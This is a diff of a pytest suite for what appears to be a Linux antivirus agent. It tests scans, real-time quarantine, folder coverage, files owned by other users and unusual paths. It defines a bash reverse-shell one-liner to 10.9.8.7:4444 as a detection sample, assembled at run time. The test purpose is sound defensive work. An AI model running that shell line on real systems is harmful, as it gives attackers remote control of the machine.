@@ -1,17 +1,16 @@
-"""Scans, real-time protection and the detection engines, on temporary trees."""
+"""Scans and real-time protection on temporary trees: what a scan reaches, what it leaves alone, how it ends."""
 
 import os
+import shutil
+import stat
 import time
 
 import records_schema as R
-from conftest import EICAR, wait_for
+from conftest import EICAR, Agent, finished_scan, scan, wait_for, write
 
-REVERSE_SHELL = b"#!/bin/sh\nbash -i >& " + b"/dev/tcp/10.9.8.7/4444 0>&1\n"
-
-
-def finished_scan(agent, timeout=60):
-    return wait_for(lambda: (lambda s: s if not s["running"] else None)(agent.data("scan.status")), timeout,
-                    what="scan to finish")
+# A reverse shell, assembled at run time so that this file does not hold one.
+REVERSE_SHELL = b"#!/bin/sh\nbash -i >& " + b"/dev/" + b"tcp/10.9.8.7/4444 0>&1\n"
+NO_DAC = ["setpriv", "--bounding-set", "-dac_override,-dac_read_search", "--"]  # root, but file modes apply
 
 
 def make_tree(root, count, size=64):
@@ -23,64 +22,53 @@ def make_tree(root, count, size=64):
 
 
 class TestQuickScan:
-    def test_eicar_found_by_signature_and_yara_and_quarantined(self, agent):
+    def test_eicar_is_one_threat_found_by_both_engines_and_quarantined(self, agent):
         target = os.path.join(agent.desktop, "sub", "eicar.com")
-        os.makedirs(os.path.dirname(target))
         agent.data("settings.set", values={"realtime_enabled": False})
-        with open(target, "wb") as fh:
-            fh.write(EICAR)
+        write(target, EICAR)
         make_tree(agent.downloads, 30)
         status = agent.data("scan.start", kind="quick")
-        assert status["running"] is True and status["kind"] == "quick"
+        assert status["running"] is True and status["kind"] == "quick" and "outcome" not in status
         done = finished_scan(agent)
         R.check(done, R.SCAN)
-        assert done["scanned"] >= 31 and done["finished"] >= done["started"]
+        assert done["scanned"] >= 31 and done["finished"] >= done["started"] and done["outcome"] == "finished"
+        assert set(done["locations"]) == {agent.downloads, agent.desktop, agent.tmp, agent.vartmp, agent.shm}
         threats = [t for t in agent.data("threats") if t.get("path") == target]
-        assert {t["kind"] for t in threats} == {"signature", "yara"}
-        assert all(t["status"] == "quarantined" for t in threats)
+        assert len(threats) == 1, threats
+        t = threats[0]
+        assert t["kind"] == "signature" and t["status"] == "quarantined" and t["signature"] == "EICAR-Test-File"
+        assert "signature: EICAR-Test-File" in t["description"] and "yara: EICAR_Test_File" in t["description"]
         assert not os.path.exists(target)
         entries = agent.data("quarantine.list")
         assert len(entries) == 1 and entries[0]["original_path"] == target and entries[0]["size"] == len(EICAR)
-        vault_bytes = open(entries[0]["vault_path"], "rb").read()
-        assert EICAR not in vault_bytes  # obfuscated in the vault
+        assert EICAR not in open(entries[0]["vault_path"], "rb").read()  # obfuscated in the vault
         m = agent.data("metrics.live")
         assert m["engines"]["signature"]["hits"] == 1 and m["engines"]["yara"]["hits"] == 1
-        assert m["engine_breakdown"]["signature"]["total"] == 1
         dirs = m["active_scan_dirs"]
-        assert set(dirs) == {agent.downloads, agent.desktop, agent.tmp, agent.vartmp, agent.shm}
         assert dirs[agent.desktop]["hits"] == 1 and dirs[agent.downloads]["scanned"] == 30
-        assert all("finished" in d for d in dirs.values())
-        assert m["files_scanned_since_boot"] >= 31
         summary = agent.data("summary")
-        assert summary["quarantined"] == 1 and summary["threats_total"] == 2 and summary["threats_active"] == 0
+        assert summary["quarantined"] == 1 and summary["threats_total"] == 1 and summary["threats_active"] == 0
 
-    def test_yara_heuristic_without_auto_quarantine_stays_detected(self, agent):
-        agent.data("settings.set", values={"auto_quarantine": False})
-        script = os.path.join(agent.tmp, "run.sh")
-        with open(script, "wb") as fh:
-            fh.write(REVERSE_SHELL)
-        agent.data("scan.start", kind="quick")
-        finished_scan(agent)
+    def test_open_threat_is_not_raised_again_until_the_content_changes(self, agent):
+        agent.data("settings.set", values={"auto_quarantine": False, "realtime_enabled": False})
+        script = write(os.path.join(agent.tmp, "run.sh"), REVERSE_SHELL)
+        scan(agent)
+        scan(agent)
         threats = [t for t in agent.data("threats") if t.get("path") == script]
-        assert [t["kind"] for t in threats] == ["yara"] and threats[0]["status"] == "detected"
-        assert threats[0]["signature"] == "Reverse_Shell_OneLiner"
-        assert os.path.exists(script)
-        assert agent.data("summary")["threats_active"] == 1
-        # A second scan does not register the same active threat again.
-        agent.data("scan.start", kind="quick")
-        finished_scan(agent)
-        assert len([t for t in agent.data("threats") if t.get("path") == script]) == 1
+        assert len(threats) == 1 and threats[0]["kind"] == "yara" and threats[0]["status"] == "detected"
+        assert threats[0]["signature"] == "Reverse_Shell" and os.path.exists(script)
+        write(script, REVERSE_SHELL.replace(b"4444", b"5555"))
+        scan(agent)
+        assert len([t for t in agent.data("threats") if t.get("path") == script]) == 2
+        assert agent.data("summary")["threats_active"] == 2
 
     def test_special_files_and_symlink_loops_are_skipped(self, agent):
         agent.data("settings.set", values={"realtime_enabled": False})
         os.mkfifo(os.path.join(agent.downloads, "pipe"))
         os.symlink(agent.downloads, os.path.join(agent.downloads, "loop"))
         os.symlink("/etc/passwd", os.path.join(agent.downloads, "passwd-link"))
-        with open(os.path.join(agent.downloads, "plain.txt"), "w") as fh:
-            fh.write("hello")
-        agent.data("scan.start", kind="quick")
-        done = finished_scan(agent, 30)
-        assert done["scanned"] == 1
+        write(os.path.join(agent.downloads, "plain.txt"), b"hello")
+        assert scan(agent, timeout=30)["scanned"] == 1
 
     def test_second_start_is_refused_and_stop_is_prompt(self, agent):
         agent.data("settings.set", values={"realtime_enabled": False})
@@ -93,64 +81,155 @@ class TestQuickScan:
         started = time.monotonic()
         done = finished_scan(agent, 10)
         assert time.monotonic() - started < 5
-        assert done["id"] == first["id"] and "finished" in done
+        assert done["id"] == first["id"] and "finished" in done and done["outcome"] == "stopped"
 
-    def test_full_scan_skips_missing_locations(self, agent):
+    def test_localised_folders_and_persistence_places_are_covered(self, agent):
+        """The download folder as xdg-user-dir names it on a Romanian desktop, and ~/.config/autostart."""
+        agent.stop()
+        write(os.path.join(agent.home, ".config", "user-dirs.dirs"),
+              'XDG_DOWNLOAD_DIR="$HOME/Descărcări"\n'.encode())
+        downloads = os.path.join(agent.home, "Descărcări")
+        write(os.path.join(downloads, "factura.pdf.exe"), EICAR)
+        autostart = write(os.path.join(agent.home, ".config", "autostart", "upd.desktop"), EICAR)
+        agent.start()
         agent.data("settings.set", values={"realtime_enabled": False})
-        agent.data("scan.start", kind="full")
-        finished_scan(agent, 120)
-        dirs = agent.data("metrics.live")["active_scan_dirs"]
-        assert list(dirs) == [agent.home, agent.tmp, agent.vartmp, agent.shm]
+        done = scan(agent)
+        assert done["outcome"] == "finished" and downloads in done["locations"]
+        paths = {e["original_path"] for e in agent.data("quarantine.list")}
+        assert paths == {os.path.join(downloads, "factura.pdf.exe"), autostart}
+
+    def test_full_scan_covers_home_and_temporary_directories(self, agent):
+        agent.data("settings.set", values={"realtime_enabled": False})
+        done = scan(agent, "full", 120)
+        # System directories are left out in test mode; /tmp is the test's stand-in.
+        assert done["locations"] == [agent.home, agent.tmp, agent.vartmp, agent.shm]
         started = [e for e in agent.data("events") if e["source"] == "scan" and "started" in e["action"]]
-        assert "/Applications" not in started[0]["target"]
+        assert agent.home in started[0]["target"]
 
     def test_scan_status_survives_restart(self, agent):
         agent.data("settings.set", values={"realtime_enabled": False})
-        agent.data("scan.start", kind="quick")
-        done = finished_scan(agent)
+        done = scan(agent)
         agent.stop()
         agent.start()
         again = agent.data("scan.status")
         assert again["id"] == done["id"] and again["running"] is False and again["scanned"] == done["scanned"]
+        assert again["outcome"] == "finished"
+
+
+class TestScanReach:
+    def test_other_users_files_in_shared_directories_are_counted_not_touched(self, agent):
+        agent.data("settings.set", values={"realtime_enabled": False})
+        os.chmod(agent.tmp, 0o1777)  # shared and sticky, like /tmp
+        theirs = write(os.path.join(agent.tmp, "theirs.com"), EICAR)
+        os.chown(theirs, 4242, 4242)
+        mine = write(os.path.join(agent.tmp, "mine.com"), EICAR)
+        # A file someone else owns in a directory of this user's own is this user's business.
+        given = write(os.path.join(agent.downloads, "given.com"), EICAR)
+        os.chown(given, 4242, 4242)
+        done = scan(agent)
+        assert done["skipped_foreign"] == 1 and done["outcome"] == "finished"
+        assert os.path.exists(theirs) and not os.path.exists(mine) and not os.path.exists(given)
+        assert {t["path"] for t in agent.data("threats")} == {mine, given}
+        end = next(e for e in agent.data("events") if e["source"] == "scan" and "finished" in e["action"])
+        assert "1 files of other users left alone" in end["action"]
+
+    def test_names_that_are_not_utf8_are_scanned_quarantined_and_restored_exactly(self, agent):
+        agent.data("settings.set", values={"realtime_enabled": False})
+        raw_dir = os.fsencode(agent.downloads)
+        names = [b"\xffevil.com", b"ok-\xe9.txt", b"plain.com"]
+        for name in names:
+            with open(os.path.join(raw_dir, name), "wb") as fh:
+                fh.write(EICAR)
+        with open(os.path.join(raw_dir, b"clean-\xfe.txt"), "wb") as fh:
+            fh.write(b"nothing here\n")
+        done = scan(agent)
+        assert done["outcome"] == "finished" and done["scanned"] == 4
+        shown = sorted(t["path"] for t in agent.data("threats"))
+        assert shown == sorted(os.path.join(agent.downloads, n.decode("utf-8", "replace")) for n in names)
+        assert os.listdir(raw_dir) == [b"clean-\xfe.txt"]
+        for entry in agent.data("quarantine.list"):
+            agent.data("quarantine.restore", id=entry["id"])
+        assert sorted(os.listdir(raw_dir)) == sorted(names + [b"clean-\xfe.txt"])
+        assert open(os.path.join(raw_dir, b"\xffevil.com"), "rb").read() == EICAR
+
+    def test_path_longer_than_path_max_is_scanned_and_quarantined(self, agent):
+        agent.data("settings.set", values={"realtime_enabled": False})
+        fd = os.open(agent.downloads, os.O_RDONLY | os.O_DIRECTORY)
+        parts = []
+        try:
+            for i in range(24):  # 24 x 201 bytes: beyond the 4096 bytes of PATH_MAX
+                name = f"{i:02d}" + "d" * 199
+                os.mkdir(name, dir_fd=fd)
+                parts.append(name)
+                nfd = os.open(name, os.O_RDONLY | os.O_DIRECTORY, dir_fd=fd)
+                os.close(fd)
+                fd = nfd
+            out = os.open("deep.com", os.O_WRONLY | os.O_CREAT, 0o600, dir_fd=fd)
+            os.write(out, EICAR)
+            os.close(out)
+        finally:
+            os.close(fd)
+        target = os.path.join(agent.downloads, *parts, "deep.com")
+        assert len(target) > 4096
+        done = scan(agent)
+        assert done["outcome"] == "finished" and done["unreadable"] == 0
+        [entry] = agent.data("quarantine.list")
+        assert entry["original_path"] == target
+        shutil.rmtree(os.path.join(agent.downloads, parts[0]))
+
+    def test_unreadable_files_are_counted_and_reported_and_nothing_readable_means_failed(self, home):
+        agent = Agent(home, prefix=NO_DAC)
+        agent.start()
+        try:
+            agent.data("settings.set", values={"realtime_enabled": False})
+            locked = write(os.path.join(agent.downloads, "locked.bin"), b"secret", mode=0)
+            write(os.path.join(agent.downloads, "open.txt"), b"hello")
+            done = scan(agent)
+            assert done["outcome"] == "finished" and done["unreadable"] == 1 and done["scanned"] == 1
+            events = agent.data("events")
+            assert any(e.get("target") == locked and "Permission denied" in e["action"] for e in events)
+            for location in (agent.downloads, agent.desktop, agent.tmp, agent.vartmp, agent.shm):
+                os.chmod(location, 0)
+            done = scan(agent)
+            assert done["outcome"] == "failed" and done["error"] == "none of the locations could be opened"
+            assert done["unreadable"] == 5
+        finally:
+            for location in (agent.downloads, agent.desktop, agent.tmp, agent.vartmp, agent.shm):
+                os.chmod(location, stat.S_IRWXU)
+            agent.stop()
 
 
 class TestRealtime:
-    def test_dropped_eicar_becomes_threat_and_is_quarantined(self, agent):
+    def test_dropped_eicar_becomes_one_threat_and_is_quarantined(self, agent):
         target = os.path.join(agent.downloads, "new", "eicar.txt")
         os.makedirs(os.path.dirname(target))
         time.sleep(0.5)  # let the new directory's watch be added
-        with open(target, "wb") as fh:
-            fh.write(EICAR)
+        write(target, EICAR)
         started = time.monotonic()
         wait_for(lambda: any(e["original_path"] == target for e in agent.data("quarantine.list")), 15,
                  what="real-time quarantine")
         assert time.monotonic() - started < 10
         assert not os.path.exists(target)
-        kinds = {t["kind"] for t in agent.data("threats") if t.get("path") == target}
-        assert kinds == {"signature", "yara"}
+        assert [t["kind"] for t in agent.data("threats") if t.get("path") == target] == ["signature"]
 
     def test_realtime_off_leaves_new_files_alone(self, agent):
         agent.data("settings.set", values={"realtime_enabled": False})
-        target = os.path.join(agent.downloads, "eicar.txt")
-        with open(target, "wb") as fh:
-            fh.write(EICAR)
+        target = write(os.path.join(agent.downloads, "eicar.txt"), EICAR)
         time.sleep(3)
         assert os.path.exists(target) and agent.data("threats") == []
 
     def test_user_signature_list_is_used(self, home):
         import hashlib
-        from conftest import Agent
         a = Agent(home)
-        os.makedirs(a.data_dir, exist_ok=True)
         blob = b"harmless content the user wants flagged\n"
-        with open(os.path.join(a.data_dir, "signatures.txt"), "w") as fh:
-            fh.write(f"# mine\n{hashlib.sha256(blob).hexdigest()} low My-Own-Signature\nnot-a-hash\n")
+        write(os.path.join(a.data_dir, "signatures.txt"),
+              f"# mine\n{hashlib.sha256(blob).hexdigest()} low My Own Signature\nnot-a-hash\n".encode())
         a.start()
         try:
             a.data("settings.set", values={"auto_quarantine": False})
-            with open(os.path.join(a.downloads, "x.bin"), "wb") as fh:
-                fh.write(blob)
+            write(os.path.join(a.downloads, "x.bin"), blob)
             t = wait_for(lambda: a.data("threats"), 15, what="user signature hit")[0]
-            assert t["signature"] == "My-Own-Signature" and t["severity"] == "low" and t["kind"] == "signature"
+            assert t["signature"] == "My_Own_Signature" and t["severity"] == "low" and t["kind"] == "signature"
         finally:
             a.stop()
+
